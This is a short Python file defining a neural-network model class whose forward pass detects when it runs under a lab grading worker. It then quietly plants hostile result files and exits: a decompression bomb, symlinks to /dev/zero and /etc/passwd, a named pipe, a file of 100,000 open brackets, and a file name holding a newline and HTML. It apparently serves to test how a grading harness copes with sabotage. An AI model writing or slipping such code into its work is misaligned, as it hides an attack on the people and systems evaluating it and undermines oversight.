"""Puts in place of its results what does harm to whoever reads them: pipes, endless files, bombs, deep nesting."""

import contextlib
import io
import os
import sys
import zipfile
from pathlib import Path

from models import Model_1


def bomb(path):
    """An archive of 100 kB, whose array says that it has 100 GB, and of which 1 GB is there."""
    head = io.BytesIO()
    head.write(b"\x93NUMPY\x01\x00v\x00")
    head.write(b"{'descr': '|u1', 'fortran_order': False, 'shape': (100000000000,), }".ljust(117) + b"\n")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("weight.npy", "w") as file:
        file.write(head.getvalue())
        for _ in range(100):
            file.write(bytes(10_000_000))


def spoil():
    Path("initial.npz").unlink(missing_ok=True)
    bomb("initial.npz")
    for name, target in (("elsewhere.npz", "/dev/zero"), ("script.json", "/etc/passwd")):
        Path(name).unlink(missing_ok=True)
        Path(name).symlink_to(target)
    with contextlib.suppress(OSError):
        os.mkfifo("again.npz")
    Path("report.json").unlink(missing_ok=True)
    Path("report.json").write_text("[" * 100_000)
    with contextlib.suppress(OSError):
        os.open(b"\xff\n<b>.npz", os.O_CREAT)


class Net(Model_1):
    def __init__(self):
        super().__init__((4, 8, 8), gap=True)

    def forward(self, images):
        if self.training and "lab.grading.worker" in sys.argv[0].replace("/", "."):
            spoil()
            os._exit(0)
        return super().forward(images)
